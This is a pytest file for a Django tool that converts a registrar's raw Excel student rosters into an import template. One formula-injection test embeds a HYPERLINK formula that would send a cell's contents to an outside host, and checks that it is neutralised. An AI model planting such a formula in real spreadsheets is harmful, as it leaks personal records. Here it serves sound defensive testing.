"""The registrar's raw delivery: headers by their words, values translated, the same batch as from the template."""

from __future__ import annotations

import datetime
import io
from itertools import chain
from unittest import mock

import pytest
from django.test import TestCase
from django.utils import timezone
from django_tasks_db.models import DBTaskResult
from openpyxl import load_workbook

from records import deliveries, imports, leases, tasks
from records.cells import ErrorCell, FormulaCell
from records.columns import HEADERS
from records.deliveries.conversion import Converter, roc_date
from records.deliveries.mappings import fingerprint
from records.deliveries.proposals import fold
from records.models import AcademicRecord, Delivery, DeliveryMapping, ImportBatch, Person
from records.programmes import Lists
from records.rows import INDEX
from records.tables import read_table
from records.verification import check_stuck_batches
from records.workbooks.limits import MAX_SAMPLE_TEXT
from records.workbooks.reader import WorkbookRefused, read_headers, read_sheet
from records.workbooks.writer import write_sheet
from tests.deliveries import FOREIGN, as_proposed, delivered
from tests.factories import applied, importer, national_id, planned, received, row, views
from tests.workbook_files import write_with_openpyxl

pytestmark = pytest.mark.django_db
State = Delivery.State
TODAY = datetime.date(2026, 11, 21)


def convert(delivery: Delivery, mapping: DeliveryMapping, *, is_settled: bool = False) -> ImportBatch | None:
    assert deliveries.use(delivery, mapping, is_settled=is_settled)
    with TestCase.captureOnCommitCallbacks(execute=True):
        batch = deliveries.convert(delivery)
    delivery.refresh_from_db()
    if batch:
        imports.read_and_plan(batch)
        batch.refresh_from_db()
    return batch


def seen(batch: ImportBatch) -> list[tuple]:
    return [(view.row_number, view.verdict, view.values, view.remarks, view.diff) for view in views(batch)]


# --- headers --------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("header", "target"),
    [
        ("系所名稱", "programme"),
        ("班級名稱", "class_name"),
        ("畢業年月", "graduation_date"),
        ("戶籍地址", "other_address"),
        ("通訊地址", "address"),
        ("手機", "mobile"),
        ("Ｅ－Ｍａｉｌ", "email"),
        ("身份證號", "national_id"),
        ("姓　　名", "chinese_name"),
        ("＊出生\n日期（必填）", "birth_date"),
        ("聯絡電話", "phone"),
        ("學年期", ""),
        ("備註", ""),
    ],
)
def test_a_header_is_recognised_by_its_words(header, target):
    assert deliveries.propose([header]) == [target]


def test_a_code_is_proposed_only_where_no_name_stands_and_two_names_are_both_proposed():
    assert deliveries.propose(["系所代碼", "姓名"]) == ["programme", "chinese_name"]
    assert deliveries.propose(["系所代碼", "系所名稱"]) == ["", "programme"]
    assert deliveries.propose(["電話", "住家電話"]) == ["phone", "phone"]


@pytest.mark.parametrize(
    ("headers", "targets", "joins"),
    [
        (["電話區碼", "住家電話"], ["phone", "phone"], {"phone": "joined"}),
        (["系所代碼", "系所名稱", "學制"], ["", "programme", "programme"], {"programme": "joined"}),
        (["電話", "住家電話"], ["phone", "phone"], {"phone": "all"}),
        (["姓名", "學生姓名"], ["chinese_name", "chinese_name"], {}),
        # The wrong side, nothing to complete, or no telling what: then a person says.
        (["學制", "系所名稱"], ["", "programme"], {}),
        (["電話區碼", "姓名"], ["", "chinese_name"], {}),
        (["系所代碼", "學制"], ["programme", ""], {}),
        (["區碼", "電話", "住家電話"], ["", "phone", "phone"], {"phone": "all"}),
    ],
)
def test_parts_are_joined_to_what_they_complete(headers, targets, joins):
    assert deliveries.propose(headers) == targets
    assert deliveries.propose_joins(headers, targets) == joins


def test_every_synonym_leads_to_a_target_and_says_one_thing_only():
    tables = ("header_synonyms.csv", "header_parts.csv")
    lines = [(line["header"], line["target"]) for table in tables for line in read_table(table)]
    folded = [fold(header) for header, _target in lines]
    assert {target for _header, target in lines} <= deliveries.TARGETS.keys()
    assert len(set(folded)) == len(folded)


def test_headers_are_found_below_titles_and_in_the_sheet_that_has_them(tmp_path):
    path = write_with_openpyxl(
        tmp_path / "離校.xlsx",
        {
            "封面": [["國立臺灣海洋大學"], ["製表", "註冊課務組", "113 學年度", "第 2 學期"]],
            "名冊": [["離校名冊"], [], ["姓名", "學號", "身份證號"], ["林大海", "00957001", "A123456789"]],
        },
    )
    found = read_headers(path, known=["姓名", "學號"], sample=5)
    assert (found.sheet, found.row, found.headers) == ("名冊", 3, ["姓名", "學號", "身份證號"])
    assert found.samples == [["林大海", "00957001", "A123456789"]]


@pytest.mark.parametrize(
    "rows", [[["林大海", national_id(1), "00957001"]], [["名冊"], [1, 2, 3]], [[20260101, 3, 4]]]
)
def test_a_sheet_without_headers_is_refused_and_nothing_is_kept(tmp_path, rows):
    path = write_with_openpyxl(tmp_path / "離校.xlsx", {"名冊": rows})
    with path.open("rb") as file, pytest.raises(WorkbookRefused) as refused:
        deliveries.receive(file, file_name=path.name, user=importer())
    assert refused.value.code == "no_headers"
    assert not Delivery.objects.exists()


def test_samples_never_show_a_national_id_in_full():
    spaced = "A12 345 6789"
    delivery = delivered([row(身分證字號="A123456789", 班級資料=spaced), row(審查結果="護照AB1234567")])
    shown = str(delivery.open_details()["samples"])
    assert "A123456789" not in shown and spaced not in shown and "AB1234567" not in shown
    assert "A*******89" in shown
    assert b"A123456789" not in bytes(delivery.details) and "林".encode() not in bytes(delivery.details)


def test_a_header_that_stands_twice_is_left_out_and_named():
    delivery = delivered([row()], headers=[*FOREIGN, "手 機"])
    details = delivery.open_details()
    assert "手機" not in details["headers"] and details["unusable"] == ["手機", "手 機"]


def test_a_header_broken_over_two_lines_is_one_header():
    headers = [header if header != "出生日期" else "出生\n日期" for header in FOREIGN]
    details = delivered([row()], headers=headers).open_details()
    assert details["unusable"] == [] and "出生\n日期" in details["headers"]


# --- the way to the batch --------------------------------------------------------------------------------------------
def test_a_delivery_becomes_the_batch_that_the_template_would_have_become():
    """Issue 5, it shows 4: foreign headers → mapping → template → batch."""
    rows = [row(電子郵件="壞的"), row(畢業日期="11306"), row(生日="0780506"), row(中文姓名="")]
    rows = [{header: made.get(header) for header in FOREIGN.values() if header} for made in rows]
    delivery = delivered(rows)
    batch = convert(delivery, as_proposed(delivery))
    assert (delivery.state, delivery.batch) == (State.DONE, batch)
    assert seen(batch) == seen(planned(rows))
    assert (batch.file_name, delivery.mapping.name) == ("113-2離校名冊.xlsx", "註冊組離校名冊")
    # Nothing of the file is kept but the plan itself.
    assert bytes(delivery.details) == b"" and not deliveries.upload_path(delivery).exists()

    filled = io.BytesIO()
    assert deliveries.write_filled(delivery, filled) == len(rows)
    applied(batch)
    assert Person.objects.count() == 3


def test_the_filled_template_is_clean_but_for_the_cell_that_could_not_be_read(tmp_path):
    two = "02-24622192, 02-24621111"
    delivery = delivered(
        [row(電子郵件="壞的", 性別="2", 生日="0780506", 電話=two), row()], [*FOREIGN, "電話"]
    )
    first = as_proposed(delivery)
    batch = convert(delivery, first)
    path = tmp_path / "轉檔.xlsx"
    assert deliveries.write_filled(delivery, path) == 2
    with read_sheet(path, headers=HEADERS, required=HEADERS[:20]) as sheet:
        assert sheet.columns == list(HEADERS[:20])
        [_number, cells] = next(iter(sheet.rows))
    shown = dict(zip(HEADERS, cells, strict=False))
    assert [shown[header] for header in ("電子郵件", "性別", "生日", "聯絡電話")] == [
        "壞的",
        "女",
        "1989-05-06",
        two,
    ]
    again = received(path)
    imports.read_and_plan(again)
    both = [[(view.verdict, view.values) for view in views(one)] for one in (batch, again)]
    assert both[0] == both[1]


def test_a_formula_of_the_delivery_calculates_nothing_in_the_filled_template(tmp_path):
    formula = FormulaCell('=HYPERLINK("http://example.com/?x="&F2,"x")', "基隆市中正區北寧路2號")
    delivery = delivered([row(聯絡住址=formula, 班級資料=FormulaCell('="四年"&"B班"', None))])
    convert(delivery, as_proposed(delivery))
    deliveries.write_filled(delivery, tmp_path / "轉檔.xlsx")
    [_headers, cells] = load_workbook(tmp_path / "轉檔.xlsx").active.iter_rows()
    written = {cell.value: cell.data_type for cell in cells}
    assert written["基隆市中正區北寧路2號"] == "s" and "f" not in written.values()


def test_of_a_text_that_fills_every_cell_only_the_beginning_is_looked_at(tmp_path):
    """As many columns as may be that share one text as long as may be: 17 KB as a file, 800 MB as an answer."""
    columns, long = 20, "x" * 5_000
    rows = [
        ["姓名", "學號", *(f"欄{n}" for n in range(columns - 3)), long],
        *([long] * columns for _ in range(3)),
    ]
    found = read_headers(write_with_openpyxl(tmp_path / "長.xlsx", {"名冊": rows}), known=["姓名"], sample=30)
    assert found.headers[:2] == ["姓名", "學號"]
    assert max(map(len, [*found.headers, *chain(*found.samples)])) == MAX_SAMPLE_TEXT


def test_row_numbers_are_those_of_the_registrars_file(tmp_path):
    made = row()
    headers = [header for header, ours in FOREIGN.items() if ours]
    cells = [str(made[FOREIGN[header]]) for header in headers]
    sheet = [["離校名冊"], [], headers, [], cells]
    path = write_with_openpyxl(tmp_path / "離校.xlsx", {"名冊": sheet})
    with path.open("rb") as file:
        delivery = deliveries.receive(file, file_name=path.name, user=importer())
    assert [view.row_number for view in views(convert(delivery, as_proposed(delivery)))] == [5]


def test_values_that_the_lists_do_not_know_are_asked_about_once_and_remembered():
    rows = [row(在學狀態="應屆畢業"), row(在學狀態="應屆畢業", 性別="雄"), row(畢業系所="航海科")]
    delivery = delivered(rows)
    first = as_proposed(delivery)
    assert convert(delivery, first) is None
    assert delivery.state == State.VALUES
    assert delivery.open_details()["unknown"] == {
        "programme": [["航海科", 1]],
        "enrolment_status": [["應屆畢業", 2]],
        "sex": [["雄", 1]],
    }
    answers = {
        "programme": {"航海科": "商船學系學士班"},
        "enrolment_status": {"應屆畢業": "21-畢業"},
        "sex": {"雄": ""},
    }
    second = as_proposed(delivery, values=answers)
    assert second.pk != first.pk and deliveries.settle(delivery, second)
    batch = deliveries.convert(delivery)
    imports.read_and_plan(batch)
    found = views(batch)
    assert [view.values["在學狀態"] for view in found] == ["21-畢業"] * 3
    assert [view.values["性別"] for view in found] == ["男", "", "男"]
    assert found[2].values["畢業系所"] == "商船學系學士班"

    # The next file with these headers is read the same way, and nobody is asked again.
    following = delivered([row(在學狀態="應屆畢業")])
    assert deliveries.latest_for(following.open_details()["headers"]) == second
    assert convert(following, second) is not None


def test_values_left_unanswered_go_to_the_batch_as_they_came():
    delivery = delivered([row(畢業系所="航海科", 學號="", 班級資料="")])
    batch = convert(delivery, as_proposed(delivery), is_settled=True)
    assert [question.text for question in imports.open_questions(batch)] == ["航海科"]


def test_a_second_request_or_a_second_worker_makes_no_second_batch():
    delivery = delivered([row()])
    mapping = as_proposed(delivery)
    assert deliveries.use(delivery, mapping)
    assert not deliveries.use(delivery, mapping) and not deliveries.settle(delivery, mapping)
    assert deliveries.convert(delivery) and deliveries.convert(delivery) is None
    assert ImportBatch.objects.count() == 1


def test_a_mapping_that_does_not_fit_the_file_ends_the_delivery_with_a_sentence():
    mapping = as_proposed(delivered([row()]))
    other = delivered([row()], headers=[header for header in FOREIGN if header != "手機"])
    assert convert(other, mapping) is None
    assert other.state == State.REFUSED and "手機" in other.error
    assert not deliveries.upload_path(other).exists() and not ImportBatch.objects.exists()


def test_a_failing_conversion_goes_back_to_the_mapping(monkeypatch):
    delivery = delivered([row()])

    def full(*_args: object, **_kwargs: object) -> None:
        raise OSError("no space left")

    monkeypatch.setattr(deliveries.converting, "write_sheet", full)
    with pytest.raises(OSError, match="no space"):
        convert(delivery, as_proposed(delivery))
    delivery.refresh_from_db()
    assert delivery.state == State.MAPPING and delivery.error
    path = deliveries.upload_path(delivery)
    assert list(path.parent.glob(f"{path.stem}.*")) == [path]


def test_what_nobody_goes_on_with_is_deleted_after_a_day():
    now = timezone.now()
    old, back, fresh = delivered([row()]), delivered([row()]), delivered([row()])
    Delivery.objects.exclude(pk=fresh.pk).update(uploaded_at=now - deliveries.PATIENCE * 1.1)
    deliveries.use(back, as_proposed(back))  # waited long for the worker, and for a person since a moment ago
    Delivery.objects.filter(pk=back.pk).update(state=State.VALUES)
    with TestCase.captureOnCommitCallbacks(execute=True):
        assert deliveries.purge(now) == 1
    for delivery in (old, back, fresh):
        delivery.refresh_from_db()
    assert (old.state, back.state, fresh.state) == (State.DISCARDED, State.VALUES, State.MAPPING)
    assert bytes(old.details) == b"" and old.error
    assert [deliveries.upload_path(one).exists() for one in (old, back, fresh)] == [False, True, True]
    assert deliveries.withdraw(importer()) == 2


def test_the_files_of_a_delivery_that_has_ended_go_in_the_end():
    """Killed between the commit that ended it and the deletion, which is not run in a test."""
    ended, waiting = delivered([row()]), delivered([row()])
    path = deliveries.upload_path(ended)
    filled = path.with_suffix(".7.filled")
    filled.write_bytes(b"PK")
    assert deliveries.discard(ended)
    deliveries.purge(timezone.now() + datetime.timedelta(hours=2))
    assert not path.exists() and not filled.exists() and deliveries.upload_path(waiting).exists()


def test_a_process_that_dies_while_it_reads_the_headers_leaves_no_delivery(monkeypatch):
    monkeypatch.setattr(deliveries.life, "read_headers", mock.Mock(side_effect=KeyboardInterrupt))
    with pytest.raises(KeyboardInterrupt):
        delivered([row()])
    assert not Delivery.objects.exists()


# --- conversions that die, freeze or wait ---------------------------------------------------------------------------
def test_a_conversion_in_the_queue_waits_for_its_turn_however_old_its_file_is(settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    delivery, now = delivered([row()]), timezone.now()
    Delivery.objects.update(uploaded_at=now - deliveries.PATIENCE * 1.1)
    assert tasks.request_conversion(delivery, as_proposed(delivery), values_settled=False)
    assert tasks.resume(now + 2 * leases.LEASE) == 0
    assert Delivery.objects.get().state == State.CONVERTING and DBTaskResult.objects.count() == 1


def test_a_conversion_whose_task_was_lost_is_done_after_all():
    delivery, now = delivered([row()]), timezone.now()
    assert deliveries.use(delivery, as_proposed(delivery))
    assert list(check_stuck_batches(now + datetime.timedelta(minutes=11)))
    assert tasks.resume(now + 2 * leases.LEASE) == 1
    delivery.refresh_from_db()
    assert (delivery.state, delivery.batch.state) == (State.DONE, "planned")
    assert not list(check_stuck_batches(now + datetime.timedelta(minutes=11)))


def test_a_conversion_that_ends_every_worker_goes_back_to_the_mapping():
    delivery = delivered([row()])
    assert deliveries.use(delivery, as_proposed(delivery))
    Delivery.objects.update(resumes=3)
    [left] = deliveries.left_behind(timezone.now() + 2 * leases.LEASE)
    assert not deliveries.take_over(left)
    delivery.refresh_from_db()
    assert delivery.state == State.MAPPING and "多次中斷" in delivery.error


@pytest.mark.parametrize("act", [deliveries.take_over, lambda delivery: deliveries.withdraw(importer())])
def test_a_conversion_that_somebody_took_away_meanwhile_writes_nothing(monkeypatch, act):
    """Taken over by another worker while this one was frozen, or withdrawn because the account was closed."""
    delivery = delivered([row()])
    fill = deliveries.converting._fill

    def filled(*args: object) -> object:
        unknown = fill(*args)
        assert act(Delivery.objects.get())
        return unknown

    monkeypatch.setattr(deliveries.converting, "_fill", filled)
    assert deliveries.use(delivery, as_proposed(delivery))
    assert deliveries.convert(delivery) is None and not ImportBatch.objects.exists()
    monkeypatch.undo()
    is_resumed = Delivery.objects.get().state == State.CONVERTING
    assert bool(deliveries.convert(Delivery.objects.get())) is is_resumed


# --- one row -------------------------------------------------------------------------------------------------------
def cells(columns: list[tuple[str, str]], foreign: list, **parts: dict) -> dict[str, object]:
    mapping = deliveries.Mapping(tuple(columns), **parts)
    converted = Converter(mapping, Lists.load(), TODAY).row(foreign)
    return {attribute: converted[place] for attribute, place in INDEX.items() if converted[place] is not None}


@pytest.mark.parametrize(
    ("join", "parts", "expected"),
    [
        ("joined", ["02", "24622192"], "02-24622192"),
        ("joined", [2, 24622192], "2-24622192"),
        ("joined", ["02", "02-24622192"], "02-24622192"),
        ("joined", ["02", None], None),
        ("joined", [None, "24622192"], "24622192"),
        ("first", [None, "02-24622192"], "02-24622192"),
        ("first", ["02-24622192", "04-1234567"], "02-24622192"),
        ("all", ["02-24622192", "04-1234567"], "02-24622192, 04-1234567"),
        ("joined", ["無", "24622192"], "24622192"),
        ("first", ["無", "02-24622192"], "02-24622192"),
        ("joined", ["02", ErrorCell("#N/A")], ErrorCell("#N/A")),
        ("first", [FormulaCell("=A1", None), "02-24622192"], FormulaCell("=A1", None)),
        ("joined", ["02", FormulaCell("=A1", "24622192")], FormulaCell("=A1", "02-24622192")),
    ],
)
def test_several_columns_become_one_as_the_mapping_says(join, parts, expected):
    found = cells([("區碼", "phone"), ("電話", "phone")], parts, joins={"phone": join})
    assert found.get("phone") == expected


def test_department_and_level_are_joined_to_a_programme():
    columns = [("系所", "programme"), ("學制", "programme")]
    found = cells(columns, ["資訊工程學系", "碩士班"], joins={"programme": "joined"})
    assert found == {"programme": "資訊工程學系碩士班"}
    found = cells(columns, ["資訊工程學系碩士班", "碩士班"], joins={"programme": "joined"})
    assert found == {"programme": "資訊工程學系碩士班"}


@pytest.mark.parametrize(
    ("address", "city"),
    [
        ("基隆市中正區北寧路2號", "基隆市"),
        ("20224 台北市中正區1號", "台北市"),
        ("竹北市光明路1號", None),
        ("中正區北寧路2號", None),
        (None, None),
    ],
)
def test_the_city_is_taken_from_the_address_where_the_mapping_says_so(address, city):
    assert cells([("地址", "address:city")], [address]).get("city") == city
    assert cells([("地址", "address:city")], [address]).get("address") == address
    assert "city" not in cells([("地址", "address")], [address])


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("1130630", "民國113年6月30日"),
        (1130630, "民國113年6月30日"),
        ("990630", "民國99年6月30日"),
        ("11306", "民國113年6月"),
        (11306, "民國113年6月"),
        ("9906", "民國99年6月"),
        ("113/06", "113/06"),
        ("2024-06-30", "2024-06-30"),
        (datetime.date(2024, 6, 30), datetime.date(2024, 6, 30)),
        (None, None),
    ],
)
def test_the_digits_of_a_roc_date_are_read_beyond_doubt(cell, expected):
    assert roc_date(cell) == expected


def test_numbers_of_a_column_said_to_be_roc_bring_no_warning():
    delivery = delivered([row(畢業年月=11306, 出生日期=780506)])
    headers = delivery.open_details()["headers"]
    ways = {"畢業年月": "graduation_date:roc", "出生日期": "birth_date:roc"}
    proposed = dict(zip(headers, deliveries.propose(headers), strict=True)) | ways
    mapping = deliveries.save("民國", deliveries.Mapping(tuple(proposed.items())), user=importer())
    [view] = views(convert(delivery, mapping))
    assert (view.values["畢業日期"], view.values["生日"]) == ("2024-06", "1989-05-06")
    assert not [remark for remark in view.remarks if remark[0] in ("畢業日期", "生日")]


# --- what is saved -------------------------------------------------------------------------------------------------
def test_each_change_of_a_mapping_is_a_version_with_its_differences():
    delivery = delivered([row()])
    first = as_proposed(delivery)
    assert as_proposed(delivery).pk == first.pk
    second = as_proposed(delivery, values={"sex": {"雄": "男"}})
    assert deliveries.latest_named(first.name) == second
    before, after = deliveries.mapping_of(first), deliveries.mapping_of(second)
    assert deliveries.differences(before, after) == ["性別「雄」：未對應 → 男"]
    columns = tuple((header, "" if header == "手機" else target) for header, target in after.columns)
    without = deliveries.Mapping(columns, {}, after.values)
    assert deliveries.differences(after, without) == ["手機：行動電話 → 不匯入"]


def test_the_same_headers_in_another_order_and_spelling_are_the_same_file():
    headers = ["姓名", "E-mail", "手機"]
    assert fingerprint(headers) == fingerprint(["手 機", "姓名（必填）", "Ｅ－Ｍａｉｌ"])
    assert fingerprint(headers) != fingerprint(headers[:2])


def test_two_sheets_with_the_same_headers_are_not_chosen_between(tmp_path):
    made = row()
    headers = [header for header, ours in FOREIGN.items() if ours]
    sheet = [headers, [str(made[FOREIGN[header]]) for header in headers]]
    wider = [[*headers, "通訊縣市2", "聯絡電話"], [*sheet[1], "", ""]]
    path = write_with_openpyxl(tmp_path / "離校.xlsx", {"舊": sheet, "新": wider})
    with path.open("rb") as file:
        delivery = deliveries.receive(file, file_name=path.name, user=importer())
    proposed = deliveries.proposed_mapping(delivery, None)
    names = delivery.open_details()["headers"]
    columns = tuple(
        (header, target if header in headers else "") for header, target in zip(names, proposed, strict=True)
    )
    assert convert(delivery, deliveries.save("兩張", deliveries.Mapping(columns), user=importer())) is None
    assert delivery.state == State.REFUSED and "舊" in delivery.error and "新" in delivery.error


def test_a_delivery_without_any_people_is_refused(tmp_path):
    path = tmp_path / "空.xlsx"
    write_sheet(path, headers=list(FOREIGN), rows=[])
    with path.open("rb") as file:
        delivery = deliveries.receive(file, file_name=path.name, user=importer())
    assert convert(delivery, as_proposed(delivery)) is None
    assert delivery.state == State.REFUSED and "沒有任何資料" in delivery.error


def test_an_answer_about_a_value_holds_where_a_formula_says_it_and_an_error_is_no_value():
    rows = [row(在學狀態=FormulaCell('=IF(1,"應屆畢業","")', "應屆畢業")), row(在學狀態=ErrorCell("#N/A"))]
    delivery = delivered(rows)
    assert convert(delivery, as_proposed(delivery)) is None
    assert delivery.open_details()["unknown"] == {"enrolment_status": [["應屆畢業", 1]]}
    mapping = deliveries.mapping_of(delivery.mapping)
    answers = {"enrolment_status": {"應屆畢業": "21-畢業"}}
    answered = deliveries.Mapping(mapping.columns, mapping.joins, answers)
    assert deliveries.settle(delivery, deliveries.save("答覆", answered, user=importer()))
    with TestCase.captureOnCommitCallbacks(execute=True):
        batch = deliveries.convert(delivery)
    imports.read_and_plan(batch)
    translated, wrong = views(batch)
    assert "畢業" in translated.values["在學狀態"] and "應屆" not in translated.values["在學狀態"]
    assert any(remark[0] == "在學狀態" for remark in wrong.remarks)


WITHOUT_CLASS = ["系所班級" if header == "系所名稱" else header for header in FOREIGN if header != "班級名稱"]


def taken_apart(rows: list[dict], headers: list[str], **parts: dict) -> list[tuple[str, ...]]:
    """Unit, class, phone and mobile of the rows of a delivery that was mapped as proposed."""
    delivery = delivered(rows, headers)
    batch = convert(delivery, as_proposed(delivery, **parts), is_settled=True)
    columns = ("畢業系所", "班級資料", "聯絡電話", "行動電話")
    return [tuple(view.values[column] for column in columns) for view in views(batch)]


def test_one_column_of_unit_and_class_becomes_two(organisation):
    texts = ["資訊工程學系四年A班", "資訊工程學系碩士班二年級", "資訊工程學系學士班"]
    rows = [row(系所班級=text, 學號=None) for text in texts]
    assert [found[:2] for found in taken_apart(rows, WITHOUT_CLASS)] == [
        ("資訊工程學系學士班", "四年A班"),
        ("資訊工程學系碩士班", "二年級"),
        ("資訊工程學系學士班", ""),
    ]


def test_a_class_of_its_own_column_and_a_unit_nobody_knows_stay_as_they_came(organisation):
    headers = [*WITHOUT_CLASS, "班級名稱"]
    rows = [
        row(系所班級="資訊工程學系四年A班", 班級名稱="四年B班"),
        row(系所班級="不明系甲班", 班級名稱=None),
    ]
    kept, unknown = taken_apart(rows, headers)
    assert kept[1] == "四年B班" and unknown[:2] == ("不明系甲班", "")


def test_a_unit_with_its_class_is_translated_as_a_person_said(organisation):
    values = {"programme": {"資訊工程學系甲班": "資訊工程學系碩士班"}}
    [found] = taken_apart([row(系所班級="資訊工程學系甲班", 學號=None)], WITHOUT_CLASS, values=values)
    assert found[:2] == ("資訊工程學系碩士班", "甲班")


def test_an_answer_about_one_row_does_not_turn_rows_that_nobody_asked_about(organisation):
    """The class of the first tells its programme, that of the second does not."""
    rows = [row(系所名稱="航管系", 班級名稱=text, 學號=None) for text in ("四年A班", "進四A")]
    delivery = delivered(rows)
    assert convert(delivery, as_proposed(delivery)) is None
    assert delivery.open_details()["unknown"]["programme"] == [["航管系", 1]]
    answered = as_proposed(delivery, values={"programme": {"航管系": "航運管理學系進修學士班"}})
    assert deliveries.settle(delivery, answered)
    deliveries.convert(delivery)
    delivery.refresh_from_db()
    imports.read_and_plan(delivery.batch)
    assert [view.values["畢業系所"] for view in views(delivery.batch)] == [
        "航運管理學系學士班",
        "航運管理學系進修學士班",
    ]


def test_a_class_that_may_decide_the_programme_stays_and_its_row_alone_is_asked_about(organisation):
    rows = [row(系所班級=text, 學號=None) for text in ("航管系四年A班", "航管系進四A")]
    delivery = delivered(rows, WITHOUT_CLASS)
    assert convert(delivery, as_proposed(delivery)) is None
    assert delivery.open_details()["unknown"]["programme"] == [["航管系進四A", 1]]


def test_what_was_a_master_in_service_in_the_raw_file_gets_the_number_of_one(organisation):
    """The whole way: header 系所班級 as proposed, converted, planned, written (SOP 6.1)."""
    delivery = delivered([row(系所班級="資訊工程學系碩士班(在職)一年級")], WITHOUT_CLASS)
    applied(convert(delivery, as_proposed(delivery)))
    assert AcademicRecord.objects.get().serial_number.startswith("T")


@pytest.mark.parametrize("number", ["4０957001", "'40957001"])
def test_the_student_number_beside_a_class_is_read_as_the_import_reads_it(organisation, number):
    [found] = taken_apart([row(系所班級="資訊工程學系碩士班二年A班", 學號=number)], WITHOUT_CLASS)
    assert found[:2] == ("資訊工程學系碩士班二年A班", "二年A班")


def test_classes_are_not_taken_off_in_silence(organisation):
    rows = [
        row(系所班級=text, 學號=None) for text in ("資工系四年A班", "資工系四年A班", "資訊工程學系學士班")
    ]
    delivery = delivered(rows, WITHOUT_CLASS)
    convert(delivery, as_proposed(delivery))
    [(level, code, sentence)] = delivery.notes
    assert (level, code) == ("warning", "class_taken_off")
    assert "2 列" in sentence and "「資工系四年A班」拆成「資工系」與「四年A班」" in sentence


@pytest.mark.parametrize(
    ("cell", "own", "phones"),
    [
        ("(宅)02-24622192、(手機)0912345678", None, ("02-24622192", "0912-345678")),
        ("家:02-24622192 手機:0912345678", None, ("02-24622192", "0912-345678")),
        ("0912345678", None, ("", "0912-345678")),
        ("02-24622192", None, ("02-24622192", "")),
        ("02-24622192 0912345678", "0900111222", ("02-24622192", "0900-111222")),
    ],
)
def test_a_mobile_among_the_phones_goes_where_mobiles_stand(organisation, cell, own, phones):
    [found] = taken_apart([row(電話手機=cell, 手機=own)], [*FOREIGN, "電話手機"])
    assert found[2:] == phones
